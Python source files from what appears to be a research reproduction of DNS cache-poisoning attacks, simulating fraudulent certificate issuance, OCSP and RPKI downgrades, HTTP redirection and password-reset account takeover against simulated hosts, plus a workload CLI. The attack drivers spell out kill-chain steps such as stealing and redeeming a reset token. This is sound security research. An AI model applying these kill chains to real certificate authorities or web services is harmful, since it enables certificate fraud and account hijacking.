    raise ScenarioError(f"no app driver for {app_class.__name__}")
