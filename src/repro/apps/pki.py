"""PKI: domain validation, OCSP, and the RPKI relying party (Table 1).

The paper's strongest claim is that DNS poisoning *bypasses
cryptographic defences*:

* **Domain validation (DV)** — a CA that resolves the target domain
  through a poisoned cache performs its HTTP-01-style challenge against
  the attacker's host and issues a fraudulent — but cryptographically
  genuine — certificate ("Hijack: fraud. certificate").
* **OCSP** — revocation checking soft-fails when the responder's name
  does not resolve to a live responder ("Downgrade: no check").
* **RPKI** — the relying party's repository synchronisation is reached
  by DNS name; see :mod:`repro.bgp.rpki` for the downgrade-to-unknown
  mechanics ("Downgrade: no ROV").
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.apps.base import (
    Application,
    AppOutcome,
    QUERY_KNOWN,
    QUERY_TARGET,
    Table1Row,
    USE_AUTHORISATION,
    USE_LOCATION,
)
from repro.apps.driver import AppDriver, host_at, register_driver
from repro.bgp.hijack import ATTACKER_ASN as HIJACKER_ASN
from repro.apps.tls import Certificate, TlsAuthority
from repro.apps.web import HTTP_PORT
from repro.attacks.planner import TargetProfile
from repro.core.rng import DeterministicRNG
from repro.dns.stub import StubResolver
from repro.netsim.host import Host

OCSP_PORT = 8888


class CertificateAuthority(Application):
    """A CA performing HTTP-01-style domain validation."""

    row = Table1Row(
        category="PKI", protocol="DV", use_case="Domain Validation",
        query_name=QUERY_TARGET, query_known=True,
        trigger_method="authentication", record_types=["A", "MX", "TXT"],
        dns_use=USE_AUTHORISATION, impact="Hijack: fraud. certificate",
    )

    def __init__(self, host: Host, stub: StubResolver, tls: TlsAuthority,
                 name: str = "Model CA",
                 rng: DeterministicRNG | None = None):
        self.host = host
        self.stub = stub
        self.tls = tls
        self.name = name
        self.rng = rng if rng is not None else DeterministicRNG("ca")
        self.issued: list[Certificate] = []
        self.challenges: dict[str, str] = {}

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def begin_order(self, domain: str) -> str:
        """Start an order; returns the token the requester must publish."""
        token = f"acme-{self.rng.randint(10**8, 10**9 - 1)}"
        self.challenges[domain.lower()] = token
        return token

    def validate_and_issue(self, domain: str,
                           requester_address: str) -> AppOutcome:
        """Resolve the domain, fetch the challenge, issue on success.

        The CA trusts its own resolver: if that cache is poisoned, the
        "domain owner" it validates is the attacker, and the resulting
        certificate is genuine in every cryptographic sense.
        """
        domain = domain.lower()
        token = self.challenges.get(domain)
        if token is None:
            return AppOutcome(app="ca", action="issue", ok=False,
                              detail={"error": "no order for domain"})
        answer = self.stub.lookup(domain, "A")
        address = answer.first_address()
        if address is None:
            return AppOutcome(app="ca", action="issue", ok=False,
                              detail={"error": "domain did not resolve"})
        network = self.host.network
        assert network is not None
        box: dict[str, bytes | None] = {}
        network.stream_request(
            self.host, address, HTTP_PORT,
            f"/.well-known/acme-challenge/{token}".encode("ascii"),
            lambda data: box.update(data=data),
        )
        deadline = network.now + 3.0
        while "data" not in box and network.now < deadline:
            if not network.scheduler.run_next():
                break
        data = box.get("data") or b""
        if not data.startswith(b"200 ") or token.encode() not in data:
            return AppOutcome(app="ca", action="issue", ok=False,
                              used_address=address,
                              detail={"error": "challenge mismatch"})
        # Ground truth the CA itself cannot see: the issuance is
        # fraudulent when the name already belonged to someone else —
        # the CA was simply shown the attacker's host by its resolver.
        previous = self.tls.certificate_for(domain)
        fraudulent = (previous is not None
                      and previous.holder_address != requester_address)
        certificate = self.tls.issue(domain, requester_address,
                                     issuer=self.name,
                                     fraudulent=fraudulent)
        self.issued.append(certificate)
        del self.challenges[domain]
        return AppOutcome(
            app="ca", action="issue", ok=True, used_address=address,
            security_degraded=fraudulent,
            detail={"domain": domain, "holder": requester_address,
                    "fraudulent": fraudulent},
        )


class OcspResponder:
    """An OCSP responder knowing which serials are revoked."""

    def __init__(self, host: Host, revoked: set[str] | None = None):
        self.host = host
        self.revoked = set(revoked or ())
        host.stream_handlers[OCSP_PORT] = self._respond

    def _respond(self, payload: bytes, src: str) -> bytes:
        serial = payload.decode("ascii", "replace")
        return b"revoked" if serial in self.revoked else b"good"


class OcspClient(Application):
    """A TLS client checking revocation before trusting a certificate."""

    row = Table1Row(
        category="PKI", protocol="OCSP", use_case="Revocation checking",
        query_name=QUERY_TARGET, query_known=True, trigger_method="direct",
        record_types=["A"], dns_use=USE_LOCATION,
        impact="Downgrade: no check",
    )

    def __init__(self, host: Host, stub: StubResolver,
                 responder_name: str, hard_fail: bool = False):
        self.host = host
        self.stub = stub
        self.responder_name = responder_name
        self.hard_fail = hard_fail

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def check(self, serial: str) -> AppOutcome:
        """Query revocation status; soft-fail accepts when unreachable."""
        answer = self.stub.lookup(self.responder_name, "A")
        address = answer.first_address()
        network = self.host.network
        assert network is not None
        data: bytes | None = None
        if address is not None:
            box: dict[str, bytes | None] = {}
            network.stream_request(self.host, address, OCSP_PORT,
                                   serial.encode("ascii"),
                                   lambda d: box.update(data=d))
            deadline = network.now + 2.0
            while "data" not in box and network.now < deadline:
                if not network.scheduler.run_next():
                    break
            data = box.get("data")
        if data == b"revoked":
            return AppOutcome(app="ocsp", action="check", ok=False,
                              used_address=address,
                              detail={"status": "revoked"})
        if data == b"good":
            return AppOutcome(app="ocsp", action="check", ok=True,
                              used_address=address,
                              detail={"status": "good"})
        # Responder unreachable or nonsense: the infamous soft-fail.
        if self.hard_fail:
            return AppOutcome(app="ocsp", action="check", ok=False,
                              used_address=address,
                              detail={"status": "unreachable (hard-fail)"})
        return AppOutcome(
            app="ocsp", action="check", ok=True, security_degraded=True,
            used_address=address,
            detail={"status": "unreachable, accepted without check"},
        )


class RpkiApplication(Application):
    """Table 1 row object for RPKI repository synchronisation.

    The executable behaviour lives in
    :class:`repro.bgp.rpki.RelyingParty`; this class contributes the
    taxonomy row and planner profile.
    """

    row = Table1Row(
        category="PKI", protocol="RPKI", use_case="Repository sync.",
        query_name=QUERY_KNOWN, query_known=True, trigger_method="waiting",
        record_types=["A"], dns_use=USE_LOCATION,
        impact="Downgrade: no ROV",
    )

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)


# -- kill-chain drivers --------------------------------------------------------


class DvDriver(AppDriver):
    """Domain validation against a poisoned resolver: fraudulent issuance.

    The CA's HTTP-01 challenge lands on the attacker's host, so the
    attacker "proves" control of a domain it never owned and receives a
    certificate that is cryptographically genuine — the paper's
    strongest bypass of a cryptographic defence.
    """

    name = "dv"
    application = CertificateAuthority

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        from repro.apps.web import HttpServer

        ctx = self.base_ctx(world, qname, malicious_ip)
        tls = TlsAuthority()
        # The incumbent certificate: the genuine owner already holds
        # one, which is what makes the re-issuance fraudulent.
        tls.issue(qname, ctx["genuine_ip"])
        HttpServer(host_at(world, ctx["genuine_ip"], "dv-origin"))
        ctx["evil_web"] = HttpServer(
            host_at(world, malicious_ip, "evil-dv"))
        ctx["tls"] = tls
        ctx["ca"] = CertificateAuthority(ctx["app_host"], ctx["stub"],
                                         tls, rng=ctx["app_rng"])
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        ca = ctx["ca"]
        token = ca.begin_order(ctx["qname"])
        # The attacker publishes the challenge on its own host — it
        # requested the certificate and knows the token.
        ctx["evil_web"].publish(
            f"/.well-known/acme-challenge/{token}", token.encode("ascii"))
        return (ca.validate_and_issue(ctx["qname"],
                                      requester_address=ctx["malicious_ip"]),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        issued = outcomes[0]
        return issued.ok and issued.security_degraded \
            and issued.used_address == ctx["malicious_ip"]


class OcspDriver(AppDriver):
    """An unreachable (redirected) responder triggers the soft-fail."""

    name = "ocsp"
    application = OcspClient

    REVOKED_SERIAL = "serial-1337"

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        OcspResponder(host_at(world, ctx["genuine_ip"], "ocsp-origin"),
                      revoked={self.REVOKED_SERIAL})
        ctx["client"] = OcspClient(ctx["app_host"], ctx["stub"],
                                   responder_name=qname)
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        return (ctx["client"].check(self.REVOKED_SERIAL),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        check = outcomes[0]
        # The genuine responder would answer "revoked"; the redirect
        # made the check silently pass without running.
        return check.ok and check.security_degraded \
            and check.used_address == ctx["malicious_ip"]


class RpkiDriver(AppDriver):
    """Repository sync fails, ROAs expire, hijacks validate UNKNOWN."""

    name = "rpki"
    application = RpkiApplication

    VICTIM_PREFIX = "30.0.0.0/22"
    VICTIM_ASN = 500
    # The shared testbed adversary AS: ROV verdicts everywhere depend
    # on this one origin story.
    ATTACKER_ASN = HIJACKER_ASN

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        from repro.bgp.rpki import RelyingParty, Roa, RpkiRepository
        from repro.bgp.prefix import Prefix

        ctx = self.base_ctx(world, qname, malicious_ip)
        repository = RpkiRepository(
            host_at(world, ctx["genuine_ip"], "rpki-repo"), qname)
        repository.publish(Roa(prefix=Prefix.parse(self.VICTIM_PREFIX),
                               max_length=23, origin=self.VICTIM_ASN))
        ctx["relying_party"] = RelyingParty(ctx["app_host"], ctx["stub"],
                                            qname)
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        relying_party = ctx["relying_party"]
        synced = relying_party.synchronise()
        verdict = relying_party.validate(self.VICTIM_PREFIX,
                                         self.ATTACKER_ASN)
        return (AppOutcome(
            app="rpki", action="sync", ok=synced,
            security_degraded=not synced,
            detail={"hijack_verdict": verdict,
                    "validated_roas": len(relying_party.validated),
                    "error": relying_party.log.last_error},
        ),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        sync = outcomes[0]
        # With the ROA set gone, the attacker's announcement validates
        # UNKNOWN — which route origin validation does not filter.
        return not sync.ok \
            and sync.detail.get("hijack_verdict") == "unknown"


register_driver(DvDriver())
register_driver(OcspDriver())
register_driver(RpkiDriver())
