"""PKI: domain validation, OCSP, and the RPKI relying party (Table 1).

The paper's strongest claim is that DNS poisoning *bypasses
cryptographic defences*:

* **Domain validation (DV)** — a CA that resolves the target domain
  through a poisoned cache performs its HTTP-01-style challenge against
  the attacker's host and issues a fraudulent — but cryptographically
  genuine — certificate ("Hijack: fraud. certificate").
* **OCSP** — revocation checking soft-fails when the responder's name
  does not resolve to a live responder ("Downgrade: no check").
* **RPKI** — the relying party's repository synchronisation is reached
  by DNS name; see :mod:`repro.bgp.rpki` for the downgrade-to-unknown
  mechanics ("Downgrade: no ROV").
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.apps.base import (
    Application,
    AppOutcome,
    QUERY_KNOWN,
    QUERY_TARGET,
    Table1Row,
    USE_AUTHORISATION,
    USE_LOCATION,
)
from repro.apps.tls import Certificate, TlsAuthority
from repro.apps.web import HTTP_PORT
from repro.attacks.planner import TargetProfile
from repro.core.rng import DeterministicRNG
from repro.dns.stub import StubResolver
from repro.netsim.host import Host

OCSP_PORT = 8888


class CertificateAuthority(Application):
    """A CA performing HTTP-01-style domain validation."""

    row = Table1Row(
        category="PKI", protocol="DV", use_case="Domain Validation",
        query_name=QUERY_TARGET, query_known=True,
        trigger_method="authentication", record_types=["A", "MX", "TXT"],
        dns_use=USE_AUTHORISATION, impact="Hijack: fraud. certificate",
    )

    def __init__(self, host: Host, stub: StubResolver, tls: TlsAuthority,
                 name: str = "Model CA",
                 rng: DeterministicRNG | None = None):
        self.host = host
        self.stub = stub
        self.tls = tls
        self.name = name
        self.rng = rng if rng is not None else DeterministicRNG("ca")
        self.issued: list[Certificate] = []
        self.challenges: dict[str, str] = {}

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def begin_order(self, domain: str) -> str:
        """Start an order; returns the token the requester must publish."""
        token = f"acme-{self.rng.randint(10**8, 10**9 - 1)}"
        self.challenges[domain.lower()] = token
        return token

    def validate_and_issue(self, domain: str,
                           requester_address: str) -> AppOutcome:
        """Resolve the domain, fetch the challenge, issue on success.

        The CA trusts its own resolver: if that cache is poisoned, the
        "domain owner" it validates is the attacker, and the resulting
        certificate is genuine in every cryptographic sense.
        """
        domain = domain.lower()
        token = self.challenges.get(domain)
        if token is None:
            return AppOutcome(app="ca", action="issue", ok=False,
                              detail={"error": "no order for domain"})
        answer = self.stub.lookup(domain, "A")
        address = answer.first_address()
        if address is None:
            return AppOutcome(app="ca", action="issue", ok=False,
                              detail={"error": "domain did not resolve"})
        network = self.host.network
        assert network is not None
        box: dict[str, bytes | None] = {}
        network.stream_request(
            self.host, address, HTTP_PORT,
            f"/.well-known/acme-challenge/{token}".encode("ascii"),
            lambda data: box.update(data=data),
        )
        deadline = network.now + 3.0
        while "data" not in box and network.now < deadline:
            if not network.scheduler.run_next():
                break
        data = box.get("data") or b""
        if not data.startswith(b"200 ") or token.encode() not in data:
            return AppOutcome(app="ca", action="issue", ok=False,
                              used_address=address,
                              detail={"error": "challenge mismatch"})
        # Ground truth the CA itself cannot see: the issuance is
        # fraudulent when the name already belonged to someone else —
        # the CA was simply shown the attacker's host by its resolver.
        previous = self.tls.certificate_for(domain)
        fraudulent = (previous is not None
                      and previous.holder_address != requester_address)
        certificate = self.tls.issue(domain, requester_address,
                                     issuer=self.name,
                                     fraudulent=fraudulent)
        self.issued.append(certificate)
        del self.challenges[domain]
        return AppOutcome(
            app="ca", action="issue", ok=True, used_address=address,
            security_degraded=fraudulent,
            detail={"domain": domain, "holder": requester_address,
                    "fraudulent": fraudulent},
        )


class OcspResponder:
    """An OCSP responder knowing which serials are revoked."""

    def __init__(self, host: Host, revoked: set[str] | None = None):
        self.host = host
        self.revoked = set(revoked or ())
        host.stream_handlers[OCSP_PORT] = self._respond

    def _respond(self, payload: bytes, src: str) -> bytes:
        serial = payload.decode("ascii", "replace")
        return b"revoked" if serial in self.revoked else b"good"


class OcspClient(Application):
    """A TLS client checking revocation before trusting a certificate."""

    row = Table1Row(
        category="PKI", protocol="OCSP", use_case="Revocation checking",
        query_name=QUERY_TARGET, query_known=True, trigger_method="direct",
        record_types=["A"], dns_use=USE_LOCATION,
        impact="Downgrade: no check",
    )

    def __init__(self, host: Host, stub: StubResolver,
                 responder_name: str, hard_fail: bool = False):
        self.host = host
        self.stub = stub
        self.responder_name = responder_name
        self.hard_fail = hard_fail

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def check(self, serial: str) -> AppOutcome:
        """Query revocation status; soft-fail accepts when unreachable."""
        answer = self.stub.lookup(self.responder_name, "A")
        address = answer.first_address()
        network = self.host.network
        assert network is not None
        data: bytes | None = None
        if address is not None:
            box: dict[str, bytes | None] = {}
            network.stream_request(self.host, address, OCSP_PORT,
                                   serial.encode("ascii"),
                                   lambda d: box.update(data=d))
            deadline = network.now + 2.0
            while "data" not in box and network.now < deadline:
                if not network.scheduler.run_next():
                    break
            data = box.get("data")
        if data == b"revoked":
            return AppOutcome(app="ocsp", action="check", ok=False,
                              used_address=address,
                              detail={"status": "revoked"})
        if data == b"good":
            return AppOutcome(app="ocsp", action="check", ok=True,
                              used_address=address,
                              detail={"status": "good"})
        # Responder unreachable or nonsense: the infamous soft-fail.
        if self.hard_fail:
            return AppOutcome(app="ocsp", action="check", ok=False,
                              used_address=address,
                              detail={"status": "unreachable (hard-fail)"})
        return AppOutcome(
            app="ocsp", action="check", ok=True, security_degraded=True,
            used_address=address,
            detail={"status": "unreachable, accepted without check"},
        )


class RpkiApplication(Application):
    """Table 1 row object for RPKI repository synchronisation.

    The executable behaviour lives in
    :class:`repro.bgp.rpki.RelyingParty`; this class contributes the
    taxonomy row and planner profile.
    """

    row = Table1Row(
        category="PKI", protocol="RPKI", use_case="Repository sync.",
        query_name=QUERY_KNOWN, query_known=True, trigger_method="waiting",
        record_types=["A"], dns_use=USE_LOCATION,
        impact="Downgrade: no ROV",
    )

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)
