"""Web: HTTP fetching and account password recovery (Table 1, Web rows).

Two attack paths:

* plain HTTP fetch — A-record poisoning redirects the client
  ("Hijack: eavesdropping");
* password recovery — the paper's §4.5 account-takeover: poison the MX
  of the account holder's mail domain at the *service provider's*
  resolver, run "forgot password", and the reset token lands on the
  attacker's mail server ("Hijack: account hijack").
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

from repro.apps.base import (
    Application,
    AppOutcome,
    QUERY_TARGET,
    Table1Row,
    USE_LOCATION,
)
from repro.apps.driver import AppDriver, host_at, register_driver
from repro.apps.email_ import Email, SmtpServer, SpamPolicy
from repro.apps.tls import TlsAuthority
from repro.attacks.planner import TargetProfile
from repro.core.rng import DeterministicRNG
from repro.dns.stub import StubResolver
from repro.netsim.host import Host

HTTP_PORT = 80
HTTPS_PORT = 443


class HttpServer:
    """A host serving path→content mappings over the stream transport."""

    def __init__(self, host: Host, pages: dict[str, bytes] | None = None,
                 port: int = HTTP_PORT):
        self.host = host
        self.pages = dict(pages or {})
        self.requests: list[tuple[str, str]] = []  # (client, path)
        host.stream_handlers[port] = self._serve

    def publish(self, path: str, content: bytes) -> None:
        """Add or replace a page."""
        self.pages[path] = content

    def _serve(self, payload: bytes, src: str) -> bytes:
        path = payload.decode("utf-8", "replace")
        self.requests.append((src, path))
        content = self.pages.get(path)
        if content is None:
            return b"404 not found"
        return b"200 " + content


class HttpClient(Application):
    """A web client resolving and fetching URLs."""

    row = Table1Row(
        category="Web", protocol="HTTP", use_case="Web sites",
        query_name=QUERY_TARGET, query_known=True, trigger_method="direct",
        record_types=["A"], dns_use=USE_LOCATION,
        impact="Hijack: eavesdropping",
    )

    def __init__(self, host: Host, stub: StubResolver,
                 tls: TlsAuthority | None = None):
        self.host = host
        self.stub = stub
        self.tls = tls
        self.history: list[AppOutcome] = []

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def fetch(self, hostname: str, path: str = "/",
              https: bool = False) -> AppOutcome:
        """Resolve ``hostname`` and fetch ``path`` from it."""
        answer = self.stub.lookup(hostname, "A")
        address = answer.first_address()
        if address is None:
            outcome = AppOutcome(app="http", action="fetch", ok=False,
                                 detail={"error": f"NXDOMAIN {hostname}"})
            self.history.append(outcome)
            return outcome
        if https:
            if self.tls is None or not self.tls.handshake(hostname, address):
                outcome = AppOutcome(
                    app="http", action="fetch", ok=False,
                    used_address=address,
                    detail={"error": "certificate verification failed"},
                )
                self.history.append(outcome)
                return outcome
        network = self.host.network
        assert network is not None
        box: dict[str, bytes | None] = {}
        port = HTTPS_PORT if https else HTTP_PORT
        network.stream_request(self.host, address, port,
                               path.encode("utf-8"),
                               lambda data: box.update(data=data))
        deadline = network.now + 3.0
        while "data" not in box and network.now < deadline:
            if not network.scheduler.run_next():
                break
        data = box.get("data")
        outcome = AppOutcome(
            app="http", action="fetch",
            ok=data is not None and data.startswith(b"200 "),
            used_address=address,
            detail={"body": (data or b"")[4:].decode("utf-8", "replace")},
        )
        self.history.append(outcome)
        return outcome


@dataclass
class Account:
    """A user account at a web service."""

    username: str
    email: str
    password: str


class PasswordRecoveryService(Application):
    """A web service (e.g. an RIR portal) with email password recovery."""

    row = Table1Row(
        category="Web", protocol="SMTP", use_case="Password recovery",
        query_name=QUERY_TARGET, query_known=True, trigger_method="direct",
        record_types=["A", "MX", "TXT"], dns_use=USE_LOCATION,
        impact="Hijack: account hijack",
    )

    def __init__(self, mailer: SmtpServer,
                 rng: DeterministicRNG | None = None):
        self.mailer = mailer
        self.rng = rng if rng is not None else DeterministicRNG("recovery")
        self.accounts: dict[str, Account] = {}
        self.pending_tokens: dict[str, str] = {}

    def target_profile(self, **infrastructure: bool) -> TargetProfile:
        """Planner description of this application."""
        return self._base_profile(**infrastructure)

    def register(self, account: Account) -> None:
        """Create an account."""
        self.accounts[account.username] = account

    def request_recovery(self, username: str) -> AppOutcome:
        """Run "forgot password": email a reset token to the account.

        The mail goes wherever the service's resolver says the account
        domain's MX lives — the cross-layer attack surface.
        """
        account = self.accounts.get(username)
        if account is None:
            return AppOutcome(app="recovery", action="request", ok=False,
                              detail={"error": "no such account"})
        token = f"reset-{self.rng.randint(10**8, 10**9 - 1)}"
        self.pending_tokens[username] = token
        mail = Email(
            sender=f"no-reply@{self.mailer.domain}",
            recipient=account.email,
            body=f"Your password reset token: {token}",
        )
        sent = self.mailer.send(mail)
        return AppOutcome(
            app="recovery", action="request", ok=sent.ok,
            used_address=sent.used_address,
            detail={"username": username},
        )

    def redeem(self, username: str, token: str,
               new_password: str) -> AppOutcome:
        """Complete recovery with the emailed token."""
        expected = self.pending_tokens.get(username)
        if expected is None or token != expected:
            return AppOutcome(app="recovery", action="redeem", ok=False,
                              detail={"error": "bad token"})
        self.accounts[username].password = new_password
        del self.pending_tokens[username]
        return AppOutcome(app="recovery", action="redeem", ok=True,
                          detail={"username": username})

    def login(self, username: str, password: str) -> bool:
        """Password check — what the attacker ultimately wants to pass."""
        account = self.accounts.get(username)
        return account is not None and account.password == password


# -- kill-chain drivers --------------------------------------------------------


class HttpDriver(AppDriver):
    """Plain HTTP fetch: a poisoned A record serves the attacker's page."""

    name = "http"
    application = HttpClient

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        HttpServer(host_at(world, ctx["genuine_ip"], "web-origin"),
                   {"/": b"genuine page"})
        HttpServer(host_at(world, malicious_ip, "evil-web"),
                   {"/": b"attacker page"})
        ctx["client"] = HttpClient(ctx["app_host"], ctx["stub"])
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        return (ctx["client"].fetch(ctx["qname"]),)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        fetch = outcomes[0]
        return fetch.ok and fetch.used_address == ctx["malicious_ip"] \
            and fetch.detail.get("body") == "attacker page"


class RecoveryDriver(AppDriver):
    """The §4.5 account takeover: poisoned MX route steals the token."""

    name = "recovery"
    application = PasswordRecoveryService

    def setup(self, world: dict, qname: str, malicious_ip: str,
              **params) -> dict:
        ctx = self.base_ctx(world, qname, malicious_ip)
        bed = ctx["testbed"]
        # Spam filtering is a separate Table 1 row (the spf/dkim
        # drivers); here every hop accepts so the routing is the story.
        accept_all = SpamPolicy(check_spf=False, check_dkim=False,
                                check_dmarc=False)
        portal_mail = SmtpServer(ctx["app_host"], ctx["stub"],
                                 "portal.example", users=[],
                                 policy=accept_all)
        genuine_host = host_at(world, ctx["genuine_ip"], "mail-origin")
        ctx["genuine_mail"] = SmtpServer(
            genuine_host,
            StubResolver(genuine_host, ctx["resolver_ip"],
                         rng=bed.rng.derive("app-stub-genuine")),
            qname, users=["bob"], policy=accept_all)
        evil_host = host_at(world, malicious_ip, "evil-mail")
        ctx["evil_mail"] = SmtpServer(
            evil_host,
            StubResolver(evil_host, ctx["resolver_ip"],
                         rng=bed.rng.derive("app-stub-evil")),
            qname, users=["bob"], policy=accept_all)
        service = PasswordRecoveryService(portal_mail, rng=ctx["app_rng"])
        service.register(Account("bob-account", f"bob@{qname}",
                                 "correct-horse"))
        ctx["service"] = service
        return ctx

    def workload(self, ctx: dict) -> tuple[AppOutcome, ...]:
        service = ctx["service"]
        outcomes = [service.request_recovery("bob-account")]
        stolen = ctx["evil_mail"].inboxes.get("bob")
        if stolen:
            token = stolen[-1].body.rsplit(": ", 1)[-1]
            outcomes.append(service.redeem("bob-account", token,
                                           "attacker-pw"))
            outcomes.append(AppOutcome(
                app="recovery", action="login",
                ok=service.login("bob-account", "attacker-pw"),
                detail={"username": "bob-account"},
            ))
        return tuple(outcomes)

    def realized(self, ctx: dict, outcomes: tuple[AppOutcome, ...]) -> bool:
        # Takeover means the stolen token redeemed AND the new password
        # logs in — not merely that the recovery mail was misrouted.
        return len(outcomes) == 3 and outcomes[1].ok and outcomes[2].ok


register_driver(HttpDriver())
register_driver(RecoveryDriver())
