"""``python -m repro.workload`` — traffic workloads from the shell.

Three subcommands mirror the atlas and scenario CLIs:

* ``synth`` — compile a client population into a JSONL query trace
  (writes to a file or stdout) and print its summary.
* ``replay`` — run one attack scenario under load — a synthesized
  population or a replayed JSONL trace — and print the attack outcome
  plus the load report; optionally dump both as JSON.
* ``report`` — re-render a load report from a ``replay --json`` record
  without re-running anything.
"""

from __future__ import annotations

import argparse
import json
import sys

from repro.core.rng import DeterministicRNG
from repro.scenario.registry import available_methods, resolve_method
from repro.scenario.spec import AttackScenario
from repro.workload.population import WorkloadSpec
from repro.workload.report import LoadReport
from repro.workload.trace import QueryTrace, synthesize_trace


def parse_seed(value: str) -> int | str:
    """Numeric seeds become ints, mirroring the other CLIs."""
    try:
        return int(value)
    except ValueError:
        return value


def _spec_from_args(args: argparse.Namespace,
                    trace_path: str | None = None) -> WorkloadSpec:
    return WorkloadSpec(
        clients=args.clients,
        qps=args.qps,
        duration=args.duration,
        warmup=args.warmup,
        domains=args.domains,
        zipf_s=args.zipf_s,
        victim_rank=args.victim_rank,
        victim_ttl=args.victim_ttl,
        trace_path=trace_path,
    )


def _add_population_flags(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--clients", type=int, default=8,
                        help="stub clients in the population (default 8)")
    parser.add_argument("--qps", type=float, default=50.0,
                        help="aggregate offered rate (default 50)")
    parser.add_argument("--duration", type=float, default=20.0,
                        help="measured seconds of load (default 20)")
    parser.add_argument("--warmup", type=float, default=5.0,
                        help="cache-priming seconds before measuring"
                             " (default 5)")
    parser.add_argument("--domains", type=int, default=20,
                        help="background-name catalog size (default 20)")
    parser.add_argument("--zipf-s", type=float, default=1.1,
                        help="Zipf popularity exponent (default 1.1)")
    parser.add_argument("--victim-rank", type=int, default=3,
                        help="victim name's popularity rank (default 3)")
    parser.add_argument("--victim-ttl", type=int, default=None,
                        help="override the victim name's zone TTL so the"
                             " cache entry churns on the run's timescale")
    parser.add_argument("--seed", type=parse_seed, default=0)


def _cmd_synth(args: argparse.Namespace) -> int:
    spec = _spec_from_args(args)
    rng = DeterministicRNG(args.seed).derive("workload")
    trace = synthesize_trace(spec, rng, args.victim)
    if args.out == "-":
        trace.write(sys.stdout)
    else:
        trace.write(args.out)
        print(f"wrote {len(trace)} queries to {args.out}")
    print(f"clients={len(trace.clients())} names={len(trace.qnames())}"
          f" horizon={trace.horizon:.2f}s checksum={trace.checksum()[:16]}",
          file=sys.stderr if args.out == "-" else sys.stdout)
    return 0


def _cmd_replay(args: argparse.Namespace) -> int:
    method = resolve_method(args.method).name
    if args.trace is not None:
        spec = _spec_from_args(args, trace_path=args.trace)
    else:
        spec = _spec_from_args(args)
    scenario = AttackScenario(method=method, workload=spec)
    run = scenario.run(seed=args.seed)
    print(run.describe())
    if run.load_report is not None:
        print()
        print(run.load_report.describe())
    else:
        print("(empty workload: the run was the idle-world baseline)")
    if args.json:
        record = {
            "method": run.method,
            "seed": run.seed,
            "success": run.success,
            "packets_sent": run.packets_sent,
            "load_report": run.load_report.to_json()
            if run.load_report is not None else None,
        }
        with open(args.json, "w", encoding="utf-8") as stream:
            json.dump(record, stream, indent=2)
            stream.write("\n")
        print(f"wrote {args.json}")
    return 0


def _cmd_report(args: argparse.Namespace) -> int:
    with open(args.json, "r", encoding="utf-8") as stream:
        record = json.load(stream)
    payload = record.get("load_report") if "load_report" in record \
        else record
    if payload is None:
        print("record carries no load report", file=sys.stderr)
        return 2
    report = LoadReport.from_json(payload)
    print(report.describe())
    return 0


def _cmd_inspect(args: argparse.Namespace) -> int:
    trace = QueryTrace.read(args.trace)
    print(f"{len(trace)} queries, {len(trace.clients())} clients,"
          f" {len(trace.qnames())} names, horizon {trace.horizon:.2f}s")
    print(f"checksum {trace.checksum()}")
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.workload",
        description="Synthesize, replay and report traffic workloads.")
    sub = parser.add_subparsers(dest="command", required=True)

    synth = sub.add_parser(
        "synth", help="compile a client population to a JSONL trace")
    _add_population_flags(synth)
    synth.add_argument("--victim", default="vict.im",
                       help="victim qname spliced into the catalog"
                            " (default vict.im)")
    synth.add_argument("--out", default="-",
                       help="output path ('-' for stdout)")
    synth.set_defaults(fn=_cmd_synth)

    replay = sub.add_parser(
        "replay", help="run an attack scenario under load")
    _add_population_flags(replay)
    replay.add_argument("--method", default="hijack",
                        help="attack methodology"
                             f" ({', '.join(available_methods())})")
    replay.add_argument("--trace", default=None,
                        help="JSONL trace to replay instead of"
                             " synthesizing from the population flags")
    replay.add_argument("--json", default=None,
                        help="write the run + load report as JSON")
    replay.set_defaults(fn=_cmd_replay)

    report = sub.add_parser(
        "report", help="re-render a load report from a replay JSON")
    report.add_argument("json", help="path written by replay --json")
    report.set_defaults(fn=_cmd_report)

    inspect = sub.add_parser(
        "inspect", help="summarize a JSONL trace")
    inspect.add_argument("trace", help="JSONL trace path")
    inspect.set_defaults(fn=_cmd_inspect)

    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    return args.fn(args)


if __name__ == "__main__":  # pragma: no cover - exercised via __main__
    raise SystemExit(main())
