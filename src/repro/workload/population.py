"""Deterministic client-population model: who asks the resolver what.

Real resolvers serve thousands of clients whose query mix — Zipf-ranked
